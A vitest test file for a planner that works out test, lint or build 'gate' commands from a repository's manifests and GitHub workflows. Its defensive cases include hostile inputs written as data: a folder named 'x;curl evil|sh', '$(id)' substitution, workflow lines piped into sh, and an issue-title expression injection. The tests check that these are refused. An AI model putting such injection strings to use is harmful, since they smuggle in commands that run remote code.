import { describe, expect, test } from "vitest";
import { isVacuous } from "../../src/planner/gates/vacuous.ts";
import { jobsOf } from "../../src/planner/gates/workflow.ts";
import { makePlan } from "../../src/planner/make-plan.ts";
import type { PlanOptions } from "../../src/planner/request.ts";

type Tree = Readonly<Record<string, string>>;

function planFor(
	tree: Tree,
	given: { task?: string; isGitHub?: boolean; options?: PlanOptions } = {},
) {
	const {
		task = "Add a thing to the service",
		isGitHub = false,
		options,
	} = given;
	return makePlan({
		task,
		files: Object.keys(tree),
		read: (path) => tree[path],
		isGitHub,
		options,
	}).plan;
}

const gateOf = (...args: Parameters<typeof planFor>) =>
	planFor(...args).phases.find(({ gate }) => gate !== undefined)?.gate;

/** An expression as workflows have them. */
const expression = (inner: string) => ["$", "{{ ", inner, " }}"].join("");

const CI = (run: string, more = "") =>
	`on: [push, pull_request]\njobs:\n  test:\n    runs-on: x\n${more}    steps:\n      - uses: a/b@v1\n      - run: ${run}\n`;

describe("gates from the project itself:", () => {
	const rows: readonly (readonly [
		name: string,
		tree: Tree,
		command: string,
	])[] = [
		[
			"npm",
			{ "package.json": '{"scripts":{"test":"vitest run"}}' },
			"npm test",
		],
		[
			"pnpm",
			{
				"package.json": '{"scripts":{"test":"vitest run"}}',
				"pnpm-lock.yaml": "",
			},
			"pnpm test",
		],
		[
			"yarn",
			{ "package.json": '{"scripts":{"test":"jest"}}', "yarn.lock": "" },
			"yarn test",
		],
		[
			"bun",
			{ "package.json": '{"scripts":{"test":"bun test"}}', "bun.lockb": "" },
			"bun run test",
		],
		[
			"a test script that proves nothing gives way to lint",
			{
				"package.json":
					'{"scripts":{"test":"echo \\"Error: no test specified\\"","lint":"eslint ."}}',
			},
			"npm run lint",
		],
		[
			"a test script that only leads to nothing",
			{
				"package.json":
					'{"scripts":{"test":"npm run t","t":"exit 0","build":"tsc"}}',
			},
			"npm run build",
		],
		[
			"a test script that watches",
			{
				"package.json":
					'{"scripts":{"test":"jest --watch","check":"tsc --noEmit"}}',
			},
			"npm run check",
		],
		[
			"a script of create-react-app",
			{ "package.json": '{"scripts":{"test":"react-scripts test"}}' },
			"CI=true npm test",
		],
		[
			"a compiler without scripts",
			{
				"package.json": '{"devDependencies":{"typescript":"7"}}',
				"tsconfig.json": "",
			},
			"npx tsc --noEmit",
		],
		[
			"deno",
			{ "deno.json": '{"tasks":{"test":"deno test -A"}}', "a.ts": "" },
			"deno task test",
		],
		[
			"pytest with its tests",
			{ "pyproject.toml": "[tool.pytest.ini_options]", "tests/test_a.py": "" },
			"pytest tests/",
		],
		[
			"pytest with tests elsewhere",
			{ "requirements.txt": "pytest", "app/test_a.py": "" },
			"pytest",
		],
		[
			"pytest under uv",
			{ "pyproject.toml": "pytest", "uv.lock": "", "tests/test_a.py": "" },
			"uv run pytest tests/",
		],
		[
			"tests without a word about pytest",
			{ "app.py": "", "tests/test_a.py": "" },
			"pytest tests/",
		],
		[
			"tox",
			{ "setup.py": "", "tox.ini": "[testenv]\ncommands = python -m unittest" },
			"tox",
		],
		[
			"django's own",
			{ "manage.py": "", "shop/test_a.py": "" },
			"python manage.py test",
		],
		["go", { "go.mod": "", "a_test.go": "" }, "go test ./..."],
		["go without tests", { "go.mod": "", "a.go": "" }, "go vet ./..."],
		["cargo", { "Cargo.toml": "" }, "cargo test"],
		["maven with a wrapper", { "pom.xml": "", mvnw: "" }, "./mvnw -B verify"],
		[
			"gradle with a wrapper",
			{ "build.gradle": "", gradlew: "", "src/A.java": "" },
			"./gradlew check",
		],
		[
			"rake",
			{ Gemfile: "", Rakefile: "Rake::TestTask.new" },
			"bundle exec rake",
		],
		["rspec", { Gemfile: 'gem "rspec"' }, "bundle exec rspec"],
		["rails", { Gemfile: 'gem "rails"' }, "bundle exec rails test"],
		["mix", { "mix.exs": "" }, "mix test"],
		["dotnet with tests", { "A.csproj": "", "T/ATests.cs": "" }, "dotnet test"],
		["dotnet without tests", { "A.csproj": "", "A.cs": "" }, "dotnet build"],
		[
			"composer",
			{ "composer.json": '{"scripts":{"test":"phpunit"}}' },
			"composer test",
		],
		[
			"phpunit",
			{ "composer.json": "{}", "phpunit.xml": "" },
			"vendor/bin/phpunit",
		],
		["swift", { "Package.swift": "", "Tests/ATests.swift": "" }, "swift test"],
		[
			"terraform",
			{ "main.tf": "" },
			"terraform init -backend=false -input=false && terraform validate",
		],
		[
			"cmake",
			{ "CMakeLists.txt": "enable_testing()", "a.c": "" },
			"cmake -S . -B build && cmake --build build && ctest --test-dir build --output-on-failure",
		],
		[
			"make",
			{ Makefile: "test: build\n\t./run-tests\nbuild:\n\tcc a.c\n" },
			"make test",
		],
		[
			"make before a convention",
			{
				Makefile: ".PHONY: test\ntest:\n\tpytest -x\n",
				"setup.py": "",
				"tests/test_a.py": "",
			},
			"make test",
		],
		[
			"a target of make that proves nothing",
			{ Makefile: "test:\n\t@echo ok\ncheck:\n\t./lint\n" },
			"make check",
		],
		["just", { justfile: "test:\n  cargo nextest run\n" }, "just test"],
		[
			"task",
			{
				"Taskfile.yml":
					"version: 3\ntasks:\n  test:\n    cmds:\n      - go test ./...\n",
			},
			"task test",
		],
		[
			"a line of a workflow",
			{ "a.py": "", ".github/workflows/ci.yml": CI("pytest tests/unit -q") },
			"pytest tests/unit -q",
		],
		[
			"a line of a workflow in a folder",
			{
				"a.py": "",
				".github/workflows/ci.yml": CI(
					"pytest",
					"    defaults:\n      run:\n        working-directory: ./api\n",
				),
			},
			"cd api && pytest",
		],
		[
			"the stack's own folder",
			{ "api/go.mod": "", "api/a_test.go": "" },
			"cd api && go test ./...",
		],
	];

	test.each(rows)("%s", (_, tree, command) => {
		expect(gateOf(tree)?.command).toBe(command);
	});

	test("work on both ends is proven on both", () => {
		const tree = {
			"api/go.mod": "",
			"api/a_test.go": "",
			"web/package.json":
				'{"scripts":{"test":"vitest run"},"dependencies":{"react":"19"}}',
		};
		expect(
			gateOf(tree, { task: "Add an endpoint and a form in the frontend" })
				?.command,
		).toBe("(cd api && go test ./...) && (cd web && npm test)");
	});

	test("files in two folders are proven in both", () => {
		const tree = {
			"api/go.mod": "",
			"api/a.go": "",
			"api/a_test.go": "",
			"web/package.json": '{"scripts":{"test":"vitest run"}}',
			"web/b.js": "",
		};
		expect(
			gateOf(tree, { task: "Rename the field in api/a.go and web/b.js" })
				?.command,
		).toBe("(cd api && go test ./...) && (cd web && npm test)");
	});

	describe("of a workspace:", () => {
		const workspace = (root: string): Tree => ({
			"package.json": `{"workspaces":["packages/*"],"scripts":{${root}}}`,
			"packages/api/package.json":
				'{"scripts":{"test":"vitest run"},"dependencies":{"express":"5"}}',
			"packages/api/a.js": "",
			"packages/api/b.js": "",
			"packages/web/package.json":
				'{"scripts":{"lint":"eslint ."},"dependencies":{"react":"19"}}',
			"packages/web/c.jsx": "",
		});
		const commandFor = (task: string, root = '"test":"vitest run"') =>
			gateOf(workspace(root), { task })?.command;

		test("the root's own gate goes first when the text names no folder", () => {
			expect(commandFor("Add a logo")).toBe("npm test");
			expect(commandFor("Improve everything")).toBe("npm test");
		});

		test("a package's own gate goes first when the text names it", () => {
			expect(commandFor("Add a logo in packages/api/a.js")).toBe(
				"cd packages/api && npm test",
			);
			expect(commandFor("Add an endpoint to the api")).toBe(
				"cd packages/api && npm test",
			);
		});

		test("the stronger proof goes before the nearer one", () => {
			expect(commandFor("Add a logo in packages/web/c.jsx")).toBe("npm test");
			expect(commandFor("Add an endpoint", '"lint":"eslint ."')).toBe(
				"cd packages/api && npm test",
			);
		});

		test("folders beside each other without one are none", () => {
			const tree = {
				...workspace(""),
				"package.json": '{"scripts":{"test":"jest"}}',
			};
			expect(gateOf(tree, { task: "Add a thing" })?.command).toBe(
				"cd packages/api && npm test",
			);
		});
	});

	describe("a script that a job runs:", () => {
		const gateWith = (run: string, script: string, name = "scripts/test.sh") =>
			gateOf({
				"x.md": "",
				[name]: script,
				".github/workflows/ci.yml": CI(run),
			})?.command;

		test.each([
			["./scripts/test.sh"],
			["bash scripts/test.sh"],
			["scripts/test.sh --fast"],
		])("%s is a gate", (run) => {
			expect(gateWith(run, "#!/bin/sh\nset -e\n./build\n")).toBe(run);
		});

		test.each([
			[
				"not of the repository",
				"./scripts/tests.sh",
				"make",
				"scripts/test.sh",
			],
			[
				"that proves nothing",
				"./scripts/test.sh",
				"#!/bin/sh\n# none\necho ok\nexit 0\n",
				"scripts/test.sh",
			],
			[
				"that ships something",
				"./scripts/deploy-test.sh",
				"make",
				"scripts/deploy-test.sh",
			],
			["from outside", "../scripts/test.sh", "make", "scripts/test.sh"],
			["with a pipe", "./scripts/test.sh | sh", "make", "scripts/test.sh"],
		])("one %s is none", (_, run, script, name) => {
			expect(gateWith(run, script, name)).toBeUndefined();
		});

		test("gives way to a line whose runner is known", () => {
			expect(
				gateOf({
					"a.py": "",
					"scripts/test.sh": "make",
					".github/workflows/ci.yml": CI(
						"|\n          ./scripts/test.sh\n          pytest -q",
					),
				})?.command,
			).toBe("pytest -q");
		});
	});

	test("text is proven by the build of the documentation", () => {
		const tree = {
			"mkdocs.yml": "",
			"pyproject.toml": "pytest",
			"tests/test_a.py": "",
		};
		expect(gateOf(tree, { task: "Document the endpoints" })?.command).toBe(
			"mkdocs build --strict",
		);
	});

	test.each([
		["nothing at all", {}],
		["sources only", { "main.c": "" }],
		[
			"a script that does nothing",
			{ "package.json": '{"scripts":{"test":"true"}}' },
		],
		[
			"the test script that npm init writes",
			{
				"package.json":
					'{"scripts":{"test":"echo \\"Error: no test specified\\" && exit 1"}}',
			},
		],
		[
			"a script that runs no code",
			{ "package.json": '{"scripts":{"test":"node -e 0"}}' },
		],
		[
			"a target that always fails",
			{ Makefile: "test:\n\t@echo no tests yet; exit 1\n" },
		],
		[
			"a line that is forgiven",
			{ "package.json": '{"scripts":{"test":"jest || true"}}' },
		],
		["a broken manifest", { "package.json": "{ this is no JSON" }],
		[
			"a folder whose name is a command",
			{ "x;curl evil|sh/go.mod": "", "x;curl evil|sh/a_test.go": "" },
		],
		[
			"a folder that leads out",
			{ "$(id)/package.json": '{"scripts":{"test":"jest"}}' },
		],
		[
			"a line with an expansion",
			{
				"x.md": "",
				".github/workflows/ci.yml": CI(
					`pytest $(id) ${expression("github.event.issue.title")}`,
				),
			},
		],
		[
			"a line with a pipe",
			{ "x.md": "", ".github/workflows/ci.yml": CI("pytest | sh") },
		],
	] as const)("no gate and a word about it: %s", (_, tree) => {
		const plan = planFor(tree);
		expect(plan.phases.filter(({ gate }) => gate !== undefined)).toEqual([]);
		expect(plan.explanation).toContainEqual({
			rule: "gate",
			evidence: expect.stringContaining(
				"none: no test, check or build command",
			),
		});
	});

	test("the config's commands go first, and those that prove nothing are named and left out", () => {
		const tree = { "package.json": '{"scripts":{"test":"vitest run"}}' };
		const options = {
			gatesConfig: { commands: { test: "npm run ci", idle: "true" } },
		};
		expect(gateOf(tree, { options })).toMatchObject({
			name: "test",
			command: "npm run ci",
		});
		expect(planFor(tree, { options }).explanation).toContainEqual({
			rule: "warning",
			evidence: expect.stringContaining("gate idle"),
		});
	});

	test("a command that only ever failed here gives way", () => {
		const tree = {
			"package.json": '{"scripts":{"test":"vitest run"}}',
			Makefile: "test:\n\t./t\n",
		};
		const learned = (failed: number) => ({
			options: {
				learned: { gates: [{ command: "npm test", passed: 0, failed }] },
			},
		});
		expect(gateOf(tree, learned(1))?.command).toBe("npm test");
		expect(gateOf(tree, learned(3))?.command).toBe("make test");
	});
});

test.each([
	"",
	"true",
	":",
	"exit 0",
	"echo ok",
	"echo a && true",
	"pytest --co -q",
	"pytest --collect-only",
	'python -c "import app"',
	"python3 -c 'import app; print(1)'",
	"npm test || true",
	"make test; exit 0",
	"cd web && echo done",
	"jest --listTests",
	'echo "Error: no test specified" && exit 1',
	"echo 'no tests; none && nothing' && exit 2",
	"false",
	"jest; exit 1",
	"node -e 0",
	'node -e ""',
	"node --eval 'process.exit(0)'",
	"python -c pass",
	'python3 -c "pass; print(1)"',
	"sh -c true",
])("proves nothing: %s", (command) => {
	expect(isVacuous(command)).toBe(true);
});

test.each([
	"pytest tests/",
	"npm test",
	"cd web && npm test",
	"go test ./...",
	"echo start && pytest",
	"test -f x && make check",
	"pytest || exit 1",
	"jest 2>&1",
	"node -e \"require('./test')\"",
	'python -c "check()"',
	"sh -c 'pytest -q; ruff check'",
	"node --test",
])("proves something: %s", (command) => {
	expect(isVacuous(command)).toBe(false);
});

describe("gates on GitHub:", () => {
	const workflow = `name: CI
on:
  pull_request:
jobs:
  unit:
    runs-on: ubuntu-latest
    strategy:
      matrix:
        node: [20, 24]
    steps:
      - run: npm test
  lint:
    name: Lint and types
    runs-on: ubuntu-latest
    steps:
      - run: |
          npm ci
          npm run lint
  deploy:
    runs-on: ubuntu-latest
    steps: []
  sometimes:
    if: github.actor == 'x'
    runs-on: ubuntu-latest
`;
	const tree = {
		"package.json": '{"scripts":{"test":"vitest run"}}',
		".github/workflows/ci.yml": workflow,
	};

	test("names the jobs of the workflows for pull requests", () => {
		expect(gateOf(tree, { isGitHub: true })).toEqual({
			name: "ci",
			checks: ["Lint and types", "unit (20)", "unit (24)"].map((name) => ({
				name,
				app: "github-actions",
			})),
			timeout: "1h",
		});
	});

	test("says which jobs it left out and why", () => {
		const said = planFor(tree, { isGitHub: true })
			.explanation.map(({ evidence }) => evidence)
			.join("\n");
		expect(said).toContain(
			"the job deploy of .github/workflows/ci.yml is left out: it ships or tends something",
		);
		expect(said).toContain(
			"the job sometimes of .github/workflows/ci.yml is left out: it runs only under a condition",
		);
	});

	test("the gates of the config go first", () => {
		const checks = {
			slow: { checks: [{ name: "s", app: "a" }], timeout: "2h" },
			ci: { checks: [{ name: "t", app: "a" }], timeout: "5m" },
		};
		expect(
			gateOf(tree, { isGitHub: true, options: { gatesConfig: { checks } } }),
		).toEqual({ name: "ci", checks: checks.ci.checks, timeout: "5m" });
	});

	test("a command without a check becomes an approval, and the plan says so", () => {
		const plan = planFor(
			{ "package.json": '{"scripts":{"test":"vitest run"}}' },
			{ isGitHub: true },
		);
		expect(plan.phases[0]?.gate).toBeUndefined();
		expect(plan.phases[0]?.approval?.reason).toContain(
			"no check reports `npm test`",
		);
		expect(plan.explanation).toContainEqual({
			rule: "gate",
			evidence: expect.stringContaining("asks for an approval instead"),
		});
	});

	test.each([
		[
			"a workflow for something else",
			"on: workflow_dispatch\njobs:\n  a:\n    runs-on: x\n",
			[],
		],
		[
			"triggers in a list",
			"on:\n- push\njobs:\n  a:\n    runs-on: x\n",
			[["a"]],
		],
		[
			"a matrix that is made up later",
			`on: push\njobs:\n  a:\n    strategy:\n      matrix: ${expression("fromJSON(x)")}\n    runs-on: x\n`,
			[["a"]],
		],
		[
			"a matrix with a name",
			`on: push\njobs:\n  a:\n    name: Node ${expression("matrix.v")}\n    strategy:\n      matrix:\n        v:\n          - 20\n          - '24'\n    runs-on: x\n`,
			[["Node 20", "Node 24"]],
		],
		[
			"a matrix with exceptions",
			"on: push\njobs:\n  a:\n    strategy:\n      matrix:\n        v: [1]\n        include:\n          - v: 2\n    runs-on: x\n",
			[[]],
		],
		["no YAML at all", "\u0000}{][", []],
	])("reads %s", (_, text, checks) => {
		expect(jobsOf("w.yml", text).map((job) => job.checks)).toEqual(checks);
	});
});

test.each([
	["echo and exit", '{"scripts":{"test":"echo \\"no test\\" && exit 1"}}'],
	["no script of that name", '{"scripts":{"build":"tsc"}}'],
])(
	"a workflow's `npm test` is no gate where package.json has %s",
	(_, manifest) => {
		const gate = gateOf({
			"package.json": manifest,
			"src/a.js": "",
			".github/workflows/ci.yml": CI("npm test"),
		});
		expect(gate?.command ?? "").not.toContain("npm test");
	},
);
